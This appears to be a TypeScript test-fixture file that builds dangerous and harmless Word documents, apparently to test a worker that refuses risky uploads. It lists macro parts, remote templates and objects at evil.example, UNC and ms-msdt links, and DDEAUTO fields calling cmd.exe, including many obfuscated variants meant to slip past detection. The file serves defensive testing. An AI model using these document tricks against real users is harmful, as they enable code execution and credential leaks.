// Word documents that run, fetch or carry something, and harmless ones that look like them.
import { strToU8, zipSync } from 'fflate';
import type { WordRefusal } from '#src/platform/workers/tasks.ts';
import { type DocParts, docBytes, docxBytes, paragraph } from './documents.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const packages = 'http://schemas.openxmlformats.org/package/2006/relationships';

interface Relation {
  kind: string;
  target: string;
  external?: boolean;
}

/** Relationships of a part, such as "word/document.xml". */
const relations = (of: string, ...all: Relation[]) => ({
  [of.replace(/([^/]+)$/, '_rels/$1.rels')]: strToU8(
    `<Relationships xmlns="${packages}">${all
      .map(
        ({ kind, target, external }, index) =>
          `<Relationship Id="rId${index + 1}" Type="${kind.startsWith('http') ? kind : `${office}/${kind}`}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
      )
      .join('')}</Relationships>`,
  ),
});
const related = (kind: string, target: string, external = false) =>
  docxBytes({ more: relations('word/document.xml', { kind, target, external }) });

const run = (inside: string) => `<w:r>${inside}</w:r>`;
const sign = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const code = (...texts: string[]) => texts.map((text) => run(`<w:instrText>${text}</w:instrText>`)).join('');
const field = (inside: string) =>
  docxBytes({ body: `<w:p>${sign('begin')}${inside}${sign('separate')}${run('<w:t>x</w:t>')}${sign('end')}</w:p>` });

/** The same document in another encoding, or with a prolog. */
const withDocument = (change: (xml: string) => Uint8Array, body = paragraph('Words')) =>
  docxBytes({
    more: {
      'word/document.xml': change(
        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
      ),
    },
  });
const dde = `<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe x"/></w:p>`;

type Trick = [refusal: WordRefusal, bytes: () => Uint8Array];

export const dangerousDocx: Record<string, Trick> = {
  macros: ['macros', () => docxBytes({ more: { 'word/vbaProject.bin': new Uint8Array(8) } })],
  'macros under another name': [
    'macros',
    () => related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin'),
  ],
  'macros by their kind': [
    'macros',
    () =>
      docxBytes({
        more: {
          '[Content_Types].xml': strToU8(
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
          ),
        },
      }),
  ],
  'a template from the web': [
    'remote',
    () =>
      docxBytes({
        more: relations('word/settings.xml', {
          kind: 'attachedTemplate',
          target: 'https://evil.example/a.dotm',
          external: true,
        }),
      }),
  ],
  'a picture from the web': ['remote', () => related('image', 'https://evil.example/a.png', true)],
  'a picture of the older kind from the network': [
    'remote',
    () =>
      docxBytes({
        body: `<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\server\\a.png"/></w:pict></w:r></w:p>`,
      }),
  ],
  'a page within the page': [
    'remote',
    () =>
      docxBytes({
        more: relations('word/webSettings.xml', { kind: 'frame', target: 'https://evil.example/', external: true }),
      }),
  ],
  'an object that lies elsewhere': ['remote', () => related('oleObject', 'https://evil.example/a.rtf', true)],
  'a link to a file': ['remote', () => related('hyperlink', 'file:///C:/Windows/System32/calc.exe', true)],
  'a link into the network': ['remote', () => related('hyperlink', '\\\\server\\share', true)],
  'a link to a program': ['remote', () => related('hyperlink', 'ms-msdt:/id PCWDiagnostic', true)],
  'a letter to many': [
    'remote',
    () => docxBytes({ more: { 'word/settings.xml': strToU8('<w:settings xmlns:w="x"><w:mailMerge/></w:settings>') } }),
  ],
  'a picture by a field from the network': ['remote', () => field(code('INCLUDEPICTURE "\\\\\\\\server\\\\a.png"'))],
  'a link by a field to a file': ['remote', () => field(code('HYPERLINK \\o "A tip" "file:///C:/a.exe"'))],
  'an object': ['objects', () => related('oleObject', 'embeddings/oleObject1.bin')],
  'a program in a package': ['objects', () => related('package', 'embeddings/a.docm')],
  'a control': ['objects', () => related('control', 'activeX/activeX1.xml')],
  'another document within': ['objects', () => related('aFChunk', 'chunk.html')],
  'a conversation with a program': [
    'fields',
    () => field(code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
  ],
  'one in pieces': ['fields', () => field(code(' D', 'D', 'E', 'AUTO c:\\\\cmd.exe'))],
  'one behind character references': ['fields', () => field(code('&#68;&#x44;E c:\\\\cmd.exe'))],
  'one that a comment divides': ['fields', () => field(code('DD<!-- -->EAUTO c:\\\\cmd.exe'))],
  'one as bare characters': ['fields', () => field(code('<![CDATA[DDEAUTO]]> c:\\\\cmd.exe'))],
  'one without an end': [
    'fields',
    () => docxBytes({ body: `<w:p>${sign('begin')}${code('DDE c:\\\\cmd.exe')}</w:p>` }),
  ],
  'one in a simple field': ['fields', () => docxBytes({ body: dde })],
  'one that another field makes': [
    'fields',
    () => field(`${sign('begin')}${code('QUOTE 68 68 69')}${sign('end')}${code(' c:\\\\cmd.exe')}`),
  ],
  'one in a footer': [
    'fields',
    () =>
      docxBytes({
        more: {
          'word/footer1.xml': strToU8(
            `<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${dde}</w:ftr>`,
          ),
        },
      }),
  ],
  'one in two-byte letters': [
    'fields',
    () => withDocument((xml) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(xml, 'utf16le')]), dde),
  ],
  'one behind another prefix': [
    'fields',
    () => withDocument((xml) => strToU8(xml.replaceAll('w:', 'q:').replace('xmlns:w', 'xmlns:q')), dde),
  ],
  'data of another program': ['fields', () => field(code('LINK Excel.Sheet.8 "C:\\\\a.xls" "R1C1" \\a'))],
  'text of another document': ['fields', () => field(code('INCLUDETEXT "https://evil.example/a.docx"'))],
  'an encoding of its own': [
    'broken',
    () => withDocument((xml) => strToU8(`<?xml version="1.0" encoding="utf-7"?>${xml}`)),
  ],
  'entities of its own': ['broken', () => withDocument((xml) => strToU8(`<!DOCTYPE w [<!ENTITY d "DDEAUTO">]>${xml}`))],
  'text that is no XML': ['broken', () => withDocument((xml) => strToU8(xml.replace('</w:p>', '')))],
  'a part of XML under the name of another kind': [
    'broken',
    () =>
      docxBytes({
        more: {
          '[Content_Types].xml': strToU8(
            `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="png" ContentType="${wordType}.footer+xml"/><Override PartName="/word/document.xml" ContentType="${wordType}.document.main+xml"/></Types>`,
          ),
          'word/footer1.png': strToU8(dde),
        },
      }),
  ],
  'two parts of one name': ['broken', () => docxBytes({ more: { 'Word/Document.xml': strToU8('<w/>') } })],
  'a zip of something else': ['wrong_type', () => zipSync({ 'xl/workbook.xml': strToU8('<workbook/>') })],
};

export const harmlessDocx: Record<string, () => Uint8Array> = {
  'links to the web': () => related('hyperlink', 'https://a.example/DDE', true),
  'a link by a field': () => field(code('HYPERLINK "https://a.example/" \\l "part" \\o "Note: C:\\\\ is meant"')),
  'a chart with its numbers': () =>
    docxBytes({
      more: relations('word/charts/chart1.xml', {
        kind: 'package',
        target: '../embeddings/Microsoft_Excel_Sheet.xlsx',
      }),
    }),
  'fields of every day': () =>
    docxBytes({
      body: `<w:p>${['TOC \\o &quot;1-3&quot; \\h', 'PAGE', 'REF _Ref1 \\h', 'DATE \\@ &quot;d: MMMM&quot;'].map((instr) => `<w:fldSimple w:instr="${instr}"/>`).join('')}</w:p>`,
    }),
  'a field within a field': () =>
    field(`${code('IF ')}${sign('begin')}${code('PAGE')}${sign('end')}${code(' = 1 "a" "b"')}`),
  'words about such fields': () => docxBytes({ body: paragraph('DDEAUTO c:\\windows and file:///etc') }),
};

const doc = (parts: DocParts) => () => docBytes(parts);

export const dangerousDoc: Record<string, Trick> = {
  macros: ['macros', doc({ more: { '/Macros/VBA/dir': 'x' } })],
  'an object': ['objects', doc({ more: { '/ObjectPool/_1234567890/CONTENTS': 'x' } })],
  'a program in a package': ['objects', doc({ more: { '/ObjectPool/_1/\x01Ole10Native': 'x' } })],
  'a conversation with a program': ['fields', doc({ text: 'A\x13DDEAUTO c:\\\\cmd.exe "/k"\x14x\x15\r' })],
  'one without an end': ['fields', doc({ text: 'A\x13 dde c:\\\\cmd.exe' })],
  'one that another field makes': ['fields', doc({ text: '\x13\x13QUOTE 68 68 69\x14DDE\x15 c:\\\\cmd.exe\x14\x15' })],
  'a link to a file': ['remote', doc({ text: '\x13 HYPERLINK "\\\\\\\\server\\\\share" \x14x\x15\r' })],
  'a template from the web': ['remote', doc({ template: 'https://evil.example/a.dot' })],
  'a template from the network': ['remote', doc({ template: '\\\\server\\a.dot' })],
  'one that was saved in a hurry': ['unclear', doc({ flags: 0x0004 })],
  'one with a password': ['unclear', doc({ flags: 0x0100 })],
  'a table': ['wrong_type', doc({ main: 'Workbook' })],
};

export const harmlessDoc: Record<string, () => Uint8Array> = {
  words: doc({ text: 'One & <two>\rThree\x0bFour\r\x07' }),
  'a link to the web': doc({ text: 'See \x13 HYPERLINK "https://a.example/" \x14here\x15.\r' }),
  'a template on the disk': doc({ template: 'C:\\Users\\asha\\Normal.dot' }),
};
